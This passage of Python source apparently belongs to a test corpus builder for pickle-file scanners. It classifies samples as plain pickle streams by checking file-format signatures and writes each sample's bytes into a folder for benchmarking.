    return [Sample(s.name, s.data, s.expected, s.family, s.note, (s.data,)) if _plain_pickle(s) else s for s in samples]


def _plain_pickle(s: Sample) -> bool:
    """Samples that are pickle streams from the first byte to the last (the oracle unpickles them as they are)."""
    return (s.family != "container" and s.data[:2] not in (b"PK", b"\x1f\x8b", b"\x93N") and s.data[257:262] != b"ustar" \
        and not s.name.endswith(".joblib")) or s.name.startswith("desync_")


def write_corpus(folder: str) -> list[Sample]:
    """Write every sample into ``folder`` (for the bench and other scanners); returns the samples."""
    from pathlib import Path

    root = Path(folder)
    root.mkdir(parents=True, exist_ok=True)
    samples = build_corpus()
    for s in samples:
        (root / s.name).write_bytes(s.data)
    return samples
